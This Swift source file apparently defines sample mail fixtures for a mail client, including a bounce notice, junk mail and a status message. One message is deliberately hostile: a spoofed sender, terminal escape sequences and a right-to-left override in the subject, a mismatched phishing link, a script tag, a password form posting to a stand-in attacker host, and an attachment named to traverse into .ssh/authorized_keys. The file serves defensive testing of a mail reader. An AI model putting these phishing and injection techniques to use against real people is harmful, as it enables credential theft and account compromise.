import MailModel

extension SampleMail {
    /// Mail that a reader must be careful with.
    static let workTrouble: [SampleMessage] = [
        SampleMessage(
            mailbox: "INBOX", age: .days(2, hour: 22, minute: 17),
            template: #"""
                Return-Path: <>
                From: Mail Delivery System <MAILER-DAEMON@mx.tidewater.example>
                To: ann@tidewater.example
                Subject: Undelivered Mail Returned to Sender
                Date: {date}
                Message-ID: <bounce.4410@mx.tidewater.example>
                Auto-Submitted: auto-replied
                MIME-Version: 1.0
                Content-Type: multipart/report; report-type=delivery-status; boundary="dsn/4410"

                --dsn/4410
                Content-Type: text/plain; charset=us-ascii
                Content-Description: Notification

                This is the mail system at host mx.tidewater.example.

                Your message could not be delivered to one or more recipients.

                <printer@inkworks.example>: host mx.inkworks.example said:
                    550 5.1.1 <printer@inkworks.example>: no such user here
                --dsn/4410
                Content-Type: message/delivery-status
                Content-Description: Delivery report

                Reporting-MTA: dns; mx.tidewater.example
                Arrival-Date: {date}

                Final-Recipient: rfc822; printer@inkworks.example
                Action: failed
                Status: 5.1.1
                Remote-MTA: dns; mx.inkworks.example
                Diagnostic-Code: smtp; 550 5.1.1 <printer@inkworks.example>: no such user here
                --dsn/4410
                Content-Type: text/rfc822-headers
                Content-Description: Undelivered message header

                From: Ann Miller <ann@tidewater.example>
                To: printer@inkworks.example
                Subject: Sheet 12, hundred copies
                Message-ID: <copies.12@tidewater.example>
                --dsn/4410--
                """#),
        SampleMessage(
            mailbox: "INBOX", age: .days(1, hour: 2, minute: 3),
            template: #"""
                From: "Jonas Lindqvist <jonas@tidewater.example>" <j0nas@mail.grabber.example>
                Reply-To: <pay@grabber.example>
                To: ann@tidewater.example
                Subject: {esc}[2J{esc}]0;owned{esc}\Urgent: invoice =?utf-8?Q?=1B[31moverdue=07_=E2=80=AEfdp.exe?=
                Date: {date}
                Message-ID: <hostile.1@grabber.example>
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="xx"

                --xx
                Content-Type: text/html; charset=utf-8

                <p>Dear An{esc}[5mn,</p><p>please pay at
                <a href="https://grabber.example/login">https://bank.example/login</a> today.</p>
                <script>alert('no reader runs this')</script>
                <form action="https://grabber.example/steal"><input name="password"></form>
                --xx
                Content-Type: application/octet-stream; name="../../.ssh/authorized_keys"
                Content-Disposition: attachment; filename="../../.ssh/authorized_keys"
                Content-Transfer-Encoding: base64

                bm90IGEga2V5Cg==
                --xx--
                """#),
        SampleMessage(
            mailbox: "Junk", age: .days(2, hour: 4, minute: 44), flags: [.junk],
            template: #"""
                From: "LUCKY DRAW" <winner@prizes.example>
                To: undisclosed-recipients:;
                Subject: You are our 1,000,000th harbour!!!
                Date: {date}
                Message-ID: <1000000@prizes.example>
                MIME-Version: 1.0
                Content-Type: text/html

                <center><font size="7" color="red">!!! WINNER !!!</font><br>
                <a href="http://prizes.example/claim">CLAIM YOUR ANCHOR</a></center>
                """#),
        SampleMessage(
            mailbox: "Junk", age: .days(9, hour: 5, minute: 1), flags: [.seen, .junk],
            template: #"""
                From: Cheap Ink <offers@ink4less.example>
                To: ann@tidewater.example
                Subject: Ink, ink, ink
                Date: {date}
                Message-ID: <ink.9@ink4less.example>

                Buy 2 oceans of ink, pay 1.
                """#),
        // No Message-ID, no MIME, no name, no subject: everything is optional but From and Date.
        SampleMessage(
            mailbox: "INBOX", age: .days(20, hour: 0, minute: 30), flags: [.seen],
            template: #"""
                From: root@gauge-3.tidewater.example
                Date: {date}

                gauge-3: battery at 11 %
                gauge-3: water level 2.31 m
                """#),
    ]
}
